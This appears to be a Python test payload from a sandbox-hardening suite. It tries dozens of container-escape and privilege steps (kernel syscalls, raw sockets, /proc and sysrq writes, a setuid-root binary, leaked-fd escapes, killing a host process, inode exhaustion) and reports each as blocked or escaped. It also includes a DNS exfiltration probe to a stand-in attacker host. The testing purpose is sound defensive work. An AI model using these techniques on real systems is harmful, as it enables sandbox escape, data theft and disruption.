"""Attack payload run INSIDE a sandbox as ``python3 attack_payload.py NAME [ARG...]``.

Each attempt prints exactly one verdict line: ``BLOCKED <detail>`` when the attempt failed
(what the suite expects) or ``ESCAPED <detail>`` when it succeeded. Syscall numbers are
x86_64 (asm/unistd_64.h); every attempt is harmless if it were to succeed where possible
(e.g. reboot with LINUX_REBOOT_CMD_CAD_OFF, sethostname inside the sandbox's own uts
namespace, the current time for settimeofday).
"""

import ctypes
import errno
import os
import socket
import stat
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

NR = dict(mount=165, umount2=166, pivot_root=155, unshare=272, setns=308, ptrace=101,
          bpf=321, perf_event_open=298, keyctl=250, add_key=248, init_module=175,
          finit_module=313, delete_module=176, kexec_load=246, kexec_file_load=320,
          reboot=169, swapon=167, open_by_handle_at=304, userfaultfd=323, settimeofday=164,
          clock_settime=227, sethostname=170, setdomainname=171, io_uring_setup=425,
          personality=135, acct=163, iopl=172, syslog=103, fsopen=430, open_tree=428,
          process_vm_readv=310, clone=56)


def arg(a):
    if isinstance(a, int):
        return ctypes.c_long(a)
    return a


def sc(name, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(NR[name]), *[arg(a) for a in args])
    return r, ctypes.get_errno()


#: Prefix of verdict lines (``batch``).
PREFIX = ""


def verdict(ok, detail):
    print(PREFIX + ("BLOCKED " if ok else "ESCAPED ") + detail, flush=True)


def expect_fail(name, *args):
    r, e = sc(name, *args)
    verdict(r == -1, f"{name} -> {r} {errno.errorcode.get(e, e)}")


def buf(n):
    return ctypes.create_string_buffer(n)


def now_timeval():
    t = time.time()
    return ctypes.create_string_buffer(struct.pack("qq", int(t), 0))


def os_error(fn, what):
    try:
        fn()
    except OSError as e:
        verdict(True, f"{what}: {errno.errorcode.get(e.errno, e.errno)}")
        return
    verdict(False, f"{what} succeeded")


def a_clone_newuser():
    r, e = sc("clone", 0x10000000 | 17, 0, 0, 0, 0)
    if r == 0:
        os._exit(0)
    if r > 0:
        os.waitpid(r, 0)
    verdict(r == -1, f"clone(CLONE_NEWUSER) -> {r} {errno.errorcode.get(e, e)}")


def a_setns():
    fd = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    expect_fail("setns", fd, 0)


def a_process_vm_readv():
    local = buf(16)
    iov_l = struct.pack("QQ", ctypes.addressof(local), 16)
    iov_r = struct.pack("QQ", 0x400000, 16)
    expect_fail("process_vm_readv", 1, buf_of(iov_l), 1, buf_of(iov_r), 1, 0)


def buf_of(b):
    return ctypes.create_string_buffer(b, len(b))


def a_bpf():
    attr = struct.pack("IIII", 1, 4, 4, 1) + b"\0" * 56
    expect_fail("bpf", 0, buf_of(attr), len(attr))


def a_perf():
    attr = struct.pack("IIQ", 1, 128, 0) + b"\0" * 112
    expect_fail("perf_event_open", buf_of(attr), 0, -1, -1, 0)


def a_finit_module():
    fd = os.open("/etc/passwd", os.O_RDONLY)
    expect_fail("finit_module", fd, b"", 0)


def a_open_by_handle_at():
    mfd = os.open("/", os.O_RDONLY)
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0)  # inode 2 of the root fs
    expect_fail("open_by_handle_at", mfd, buf_of(handle), 0)


def a_raw_socket():
    os_error(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
             "socket(AF_INET, SOCK_RAW)")


def a_packet_socket():
    os_error(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
             "socket(AF_PACKET, SOCK_RAW)")


def a_clock_settime():
    ts = ctypes.create_string_buffer(struct.pack("qq", int(time.time()), 0))
    expect_fail("clock_settime", 0, ts)


def a_mknod_device():
    os_error(lambda: os.mknod("/workspace/attack-sda", 0o600 | stat.S_IFBLK, os.makedev(8, 0)),
             "mknod block device 8:0")


def write_file(path, data):
    with open(path, "w") as f:
        f.write(data)


def a_proc_sys_write():
    cur = open("/proc/sys/kernel/hostname").read().strip()
    os_error(lambda: write_file("/proc/sys/kernel/hostname", cur), "write /proc/sys/kernel/hostname")


def a_sysrq():
    os_error(lambda: write_file("/proc/sysrq-trigger", "h"), "write /proc/sysrq-trigger")


def a_sys_write():
    p = "/sys/kernel/mm/transparent_hugepage/enabled"
    try:
        cur = open(p).read()
    except OSError as e:
        verdict(True, f"read {p}: {errno.errorcode.get(e.errno, e.errno)} (no host sysfs)")
        return
    sel = cur[cur.index("[") + 1:cur.index("]")] if "[" in cur else cur.strip()
    os_error(lambda: write_file(p, sel), f"write {p} (same value {sel!r})")


def a_proc1_root(marker):
    seen = []
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                if os.path.exists(f"/proc/{d}/root{marker}"):
                    seen.append(d)
            except OSError:
                pass
    verdict(not seen and not os.path.exists(marker),
            f"host marker via /proc/*/root: {seen or 'not visible'}")


def a_leaked_fds(marker):
    me = set()
    found = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd <= 2:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue  # the listing's own fd, closed by now
        found.append(f"{fd}->{target}")
        try:
            os.fchdir(fd)
            for _ in range(30):
                os.chdir("..")
            if os.path.exists("." + marker):
                verdict(False, f"host root through leaked fd {fd} ({target})")
                return
        except OSError:
            pass
    verdict(True, f"no host fd inherited ({found or 'only 0-2'})")


def a_dotdot_inside(marker):
    os.chdir("/")
    for _ in range(40):
        os.chdir("..")
    verdict(os.getcwd() == "/" and not os.path.exists("." + marker),
            f"cwd after 40x '..' = {os.getcwd()}, host marker not visible")


def a_hardlink_escape():
    os_error(lambda: os.link("/dev/null", "/workspace/attack-hl-null"),
             "link(/dev/null, /workspace/attack-hl-null) (a host-mounted file)")


def a_setuid_upper():
    import shutil
    src = os.path.realpath(sys.executable)
    dst = "/workspace/attack-suid-python"
    shutil.copy(src, dst)
    os.chown(dst, 0, 0)
    os.chmod(dst, 0o4755)
    out = os.popen(f"{dst} -c \"print(open('/proc/self/status').read())\"").read()
    caps = [ln for ln in out.splitlines() if ln.startswith(("CapEff", "CapPrm", "NoNewPrivs"))]
    eff = [ln for ln in caps if ln.startswith("CapEff")]
    verdict(bool(eff) and eff[0].split()[1].strip("0") == "",
            f"setuid-root copy in the upper layer runs with {caps}")


def a_other_sandbox(name):
    hits = []
    for d in os.listdir("/proc"):
        if d.isdigit() and os.path.exists(f"/proc/{d}/root/workspace/{name}"):
            hits.append(d)
    for top in ("/", "/tmp", "/workspace", "/var", "/run"):
        for root, _dirs, files in os.walk(top):
            if root.startswith(("/proc", "/sys")):
                continue
            if name in files:
                hits.append(os.path.join(root, name))
    mine = f"/workspace/{name}"
    hits = [h for h in hits if h != mine]
    verdict(not hits, f"another sandbox's file {name}: {hits or 'not visible'}")


def connect(host, port, timeout=2.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((host, port))
        return None
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e)) if e.errno else type(e).__name__
    finally:
        s.close()


def a_connect(*targets):
    res = {}
    for t in targets:
        host, port = t.rsplit(":", 1)
        res[t] = connect(host, int(port))
    verdict(all(v is not None for v in res.values()), f"connect: {res}")


def a_dns_exfil():
    name = "c2VjcmV0.exfil.attacker.test"
    try:
        socket.getaddrinfo(name, 80)
        resolved = True
    except OSError as e:
        resolved = False
        why = str(e)
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    try:
        s.sendto(q, ("8.8.8.8", 53))
        try:
            s.recvfrom(512)
            direct = "answered"
        except OSError:
            direct = "no answer"
    except OSError as e:
        direct = errno.errorcode.get(e.errno, str(e))
    verdict(not resolved and direct != "answered",
            f"getaddrinfo({name}) failed ({'' if resolved else why}); direct UDP to 8.8.8.8:53: {direct}")


def a_signal_host(pid):
    pid = int(pid)
    try:
        os.kill(pid, 9)
        verdict(False, f"kill({pid}, SIGKILL) succeeded (the host checks whether it was its process)")
    except OSError as e:
        verdict(True, f"kill({pid}, SIGKILL): {errno.errorcode.get(e.errno, e.errno)}")


def a_inode_exhaustion(n):
    n = int(n)
    os.makedirs("/tmp/inodes", exist_ok=True)
    made = 0
    try:
        for i in range(n):
            os.close(os.open(f"/tmp/inodes/{i}", os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
        verdict(False, f"created all {made} files")
    except OSError as e:
        verdict(True, f"stopped after {made} files: {errno.errorcode.get(e.errno, e.errno)}")


SIMPLE = {
    "mount": lambda: expect_fail("mount", b"none", b"/tmp", b"tmpfs", 0, None),
    "umount2": lambda: expect_fail("umount2", b"/proc", 2),
    "pivot_root": lambda: expect_fail("pivot_root", b"/tmp", b"/tmp"),
    "unshare": lambda: expect_fail("unshare", 0x10000000),
    "clone_newuser": a_clone_newuser,
    "setns": a_setns,
    "ptrace": lambda: expect_fail("ptrace", 16, 1, 0, 0),
    "process_vm_readv": a_process_vm_readv,
    "bpf": a_bpf,
    "perf_event_open": a_perf,
    "keyctl": lambda: expect_fail("keyctl", 0, -3, 1),
    "add_key": lambda: expect_fail("add_key", b"user", b"k", b"v", 1, -3),
    "init_module": lambda: expect_fail("init_module", buf(64), 64, b""),
    "finit_module": a_finit_module,
    "delete_module": lambda: expect_fail("delete_module", b"loop", 0x800),
    "kexec_load": lambda: expect_fail("kexec_load", 0, 0, None, 0),
    "kexec_file_load": lambda: expect_fail("kexec_file_load", -1, -1, 0, None, 1),
    "reboot": lambda: expect_fail("reboot", 0xfee1dead, 672274793, 0, None),
    "swapon": lambda: expect_fail("swapon", b"/workspace/attack-swap", 0),
    "open_by_handle_at": a_open_by_handle_at,
    "userfaultfd": lambda: expect_fail("userfaultfd", 0),
    "raw_socket": a_raw_socket,
    "packet_socket": a_packet_socket,
    "settimeofday": lambda: expect_fail("settimeofday", now_timeval(), None),
    "clock_settime": a_clock_settime,
    "sethostname": lambda: expect_fail("sethostname", b"pwned", 5),
    "setdomainname": lambda: expect_fail("setdomainname", b"pwned", 5),
    "io_uring_setup": lambda: expect_fail("io_uring_setup", 1, buf(120)),
    "personality": lambda: expect_fail("personality", 0x0400000),
    "acct": lambda: expect_fail("acct", b"/workspace/attack-acct"),
    "iopl": lambda: expect_fail("iopl", 3),
    "syslog": lambda: expect_fail("syslog", 3, buf(4096), 4096),
    "fsopen": lambda: expect_fail("fsopen", b"tmpfs", 0),
    "open_tree": lambda: expect_fail("open_tree", -100, b"/", 1),
    "mknod_device": a_mknod_device,
    "proc_sys_write": a_proc_sys_write,
    "sysrq_trigger": a_sysrq,
    "sys_write": a_sys_write,
    "hardlink_escape": a_hardlink_escape,
    "setuid_upper": a_setuid_upper,
    "dns_exfil": a_dns_exfil,
}

WITH_ARGS = {
    "proc1_root": a_proc1_root,
    "leaked_fds": a_leaked_fds,
    "dotdot_inside": a_dotdot_inside,
    "other_sandbox": a_other_sandbox,
    "connect": a_connect,
    "signal_host": a_signal_host,
    "inode_exhaustion": a_inode_exhaustion,
}

def batch(names):
    """``batch NAME...``: the argument-less attempts one after another in this process (one
    interpreter start: the microVM's TCG makes each start cost seconds); each verdict line is
    prefixed with ``NAME<TAB>``."""
    global PREFIX
    for n in names:
        PREFIX = n + "\t"
        try:
            SIMPLE[n]()
        except Exception as e:  # noqa: BLE001 - a crash of one attempt is its verdict
            verdict(False, f"payload error {type(e).__name__}: {e}")
    PREFIX = ""


if __name__ == "__main__":
    name, args = sys.argv[1], sys.argv[2:]
    if name == "batch":
        batch(args)
    elif name in SIMPLE:
        SIMPLE[name]()
    else:
        WITH_ARGS[name](*args)
